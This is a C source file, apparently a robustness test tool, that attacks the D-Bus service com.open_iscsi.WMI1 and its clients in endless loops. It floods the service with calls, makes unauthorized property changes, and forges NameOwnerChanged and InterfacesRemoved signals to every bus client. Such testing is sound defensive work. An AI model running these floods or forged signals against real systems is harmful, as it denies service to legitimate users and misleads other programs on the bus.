/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * attack WAY UID: what a user can do to the service and its clients, without end, on the system bus
 * as the environment has it.
 *
 *   leave    asks for all objects by many connections, and leaves
 *   read     likewise, and reads the answers
 *   stay     likewise, and does neither
 *   count    asks for the counters of all connections
 *   change   changes what is not for this user to change
 *   forge    tells everybody that others have left, and that the service's objects have changed
 *   listen   asks for signals, and never reads them
 */

#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <systemd/sd-bus.h>
#include <unistd.h>

#define NAME "com.open_iscsi.WMI1"
#define ROOT "/com/open_iscsi/WMI1"
#define PROPERTIES "org.freedesktop.DBus.Properties"
#define OBJECT_MANAGER "org.freedesktop.DBus.ObjectManager"
#define DBUS "org.freedesktop.DBus"
#define DBUS_PATH "/org/freedesktop/DBus"
#define STATISTICS NAME ".MSiSCSI_ConnectionStatistics"

#define CONNECTIONS 4U /* at a time: a user can have 256 */
#define BURST 120U     /* calls on each, of 128 that the bus lets wait */
#define FORGED 8U      /* departures that each connection is told of */
#define PAUSE_USEC 500000U

static sd_bus *connect_to_bus(void)
{
    sd_bus *bus = NULL;

    if (sd_bus_open_system(&bus) < 0) {
        usleep(PAUSE_USEC);
        return NULL;
    }
    return bus;
}

static int on_answer(sd_bus_message *message, void *userdata, sd_bus_error *error)
{
    unsigned *n_waiting = userdata;

    --*n_waiting;
    return 0;
}

static void wait_for_answers(sd_bus *bus, const unsigned *n_waiting)
{
    while (*n_waiting > 0) {
        int r = sd_bus_process(bus, NULL);
        if (r < 0 || (r == 0 && sd_bus_wait(bus, 1000000) < 0))
            return;
    }
}

/* ---- reads ---- */

static void begin_reads(sd_bus *bus, unsigned *n_waiting)
{
    for (unsigned i = 0; i < BURST; i++)
        if (sd_bus_call_method_async(bus, NULL, NAME, ROOT, OBJECT_MANAGER, "GetManagedObjects",
                                     on_answer, n_waiting, "") >= 0)
            ++*n_waiting;
    (void)sd_bus_flush(bus);
}

static void read_all(bool reads, bool stays)
{
    sd_bus *buses[CONNECTIONS];
    unsigned n_waiting[CONNECTIONS] = {0};

    for (size_t i = 0; i < CONNECTIONS; i++) {
        buses[i] = connect_to_bus();
        if (buses[i])
            begin_reads(buses[i], &n_waiting[i]);
    }
    for (size_t i = 0; i < CONNECTIONS && reads; i++)
        if (buses[i])
            wait_for_answers(buses[i], &n_waiting[i]);
    if (stays)
        pause();
    for (size_t i = 0; i < CONNECTIONS; i++)
        sd_bus_close_unref(buses[i]);
}

static void leave(void)
{
    read_all(false, false);
    usleep(PAUSE_USEC);
}

static void read_answers(void)
{
    read_all(true, false);
}

static void stay(void)
{
    read_all(false, true);
}

/* ---- counters ---- */

/* Of the connections that there are, by the answer about all objects. */
static void begin_counts(sd_bus *bus, sd_bus_message *objects, unsigned *n_waiting)
{
    const char *path;

    if (sd_bus_message_enter_container(objects, 'a', "{oa{sa{sv}}}") < 0)
        return;
    while (sd_bus_message_enter_container(objects, 'e', "oa{sa{sv}}") > 0) {
        if (sd_bus_message_read(objects, "o", &path) > 0 &&
            strncmp(path, ROOT "/connection/", strlen(ROOT "/connection/")) == 0 &&
            sd_bus_call_method_async(bus, NULL, NAME, path, PROPERTIES, "GetAll", on_answer,
                                     n_waiting, "s", STATISTICS) >= 0)
            ++*n_waiting;
        (void)sd_bus_message_skip(objects, "a{sa{sv}}");
        (void)sd_bus_message_exit_container(objects);
    }
}

static void count(void)
{
    sd_bus *bus = connect_to_bus();
    sd_bus_message *objects = NULL;
    unsigned n_waiting = 0;

    if (bus && sd_bus_call_method(bus, NAME, ROOT, OBJECT_MANAGER, "GetManagedObjects", NULL,
                                  &objects, "") >= 0)
        begin_counts(bus, objects, &n_waiting);
    wait_for_answers(bus, &n_waiting);
    sd_bus_message_unref(objects);
    sd_bus_flush_close_unref(bus);
}

/* ---- changes ---- */

static void change(void)
{
    sd_bus *bus = connect_to_bus();
    unsigned n_waiting = 0;

    for (unsigned i = 0; bus && i < BURST; i++)
        if (sd_bus_call_method_async(bus, NULL, NAME, ROOT, PROPERTIES, "Set", on_answer,
                                     &n_waiting, "ssv", NAME ".Manager", "PathWeightOrder", "s",
                                     "highest-first") >= 0)
            ++n_waiting;
    wait_for_answers(bus, &n_waiting);
    sd_bus_flush_close_unref(bus);
}

/* ---- signals ---- */

static void tell(sd_bus *bus, const char *whom, const char *who)
{
    sd_bus_message *message = NULL;

    if (sd_bus_message_new_signal(bus, &message, DBUS_PATH, DBUS, "NameOwnerChanged") >= 0 &&
        sd_bus_message_append(message, "sss", who, who, "") >= 0 &&
        sd_bus_message_set_destination(message, whom) >= 0)
        (void)sd_bus_send(bus, message, NULL);
    message = sd_bus_message_unref(message);
    if (sd_bus_message_new_signal(bus, &message, ROOT, OBJECT_MANAGER, "InterfacesRemoved") >= 0 &&
        sd_bus_message_append(message, "oas", ROOT, 0) >= 0 &&
        sd_bus_message_set_destination(message, whom) >= 0)
        (void)sd_bus_send(bus, message, NULL);
    sd_bus_message_unref(message);
}

/* Everybody is told of some. */
static void forge(void)
{
    sd_bus *bus = connect_to_bus();
    char **names = NULL;
    size_t n = 0;

    if (bus && sd_bus_list_names(bus, &names, NULL) >= 0)
        while (names[n])
            n++;
    for (size_t i = 0; i < n; i++)
        for (size_t k = 0; k < FORGED && names[i][0] == ':'; k++)
            tell(bus, names[i], names[(i + k) % n]);
    for (size_t i = 0; i < n; i++)
        free(names[i]);
    free(names);
    sd_bus_flush_close_unref(bus);
    usleep(PAUSE_USEC);
}

static void listen_to_all(void)
{
    sd_bus *bus = connect_to_bus();

    if (bus && sd_bus_call_method(bus, DBUS, DBUS_PATH, DBUS, "AddMatch", NULL, NULL, "s",
                                  "type='signal'") >= 0)
        pause();
    sd_bus_flush_close_unref(bus);
}

static const struct {
    const char *name;
    void (*run)(void);
} ways[] = {
    {"leave", leave},          {"read", read_answers}, {"stay", stay},
    {"count", count},          {"change", change},     {"forge", forge},
    {"listen", listen_to_all},
};

/* It ends with who has started it, which a change of users would make it forget. */
static void become(const char *uid)
{
    unsigned number = (unsigned)strtoul(uid, NULL, 10);

    if (setgid(number) < 0 || setuid(number) < 0 || prctl(PR_SET_PDEATHSIG, SIGKILL) < 0) {
        perror("attack");
        exit(EXIT_FAILURE);
    }
}

int main(int argc, char **argv)
{
    for (size_t i = 0; argc == 3 && i < sizeof(ways) / sizeof(ways[0]); i++) {
        if (strcmp(argv[1], ways[i].name) != 0)
            continue;
        become(argv[2]);
        for (;;)
            ways[i].run();
    }
    fprintf(stderr, "usage: attack WAY UID\n");
    return 2;
}
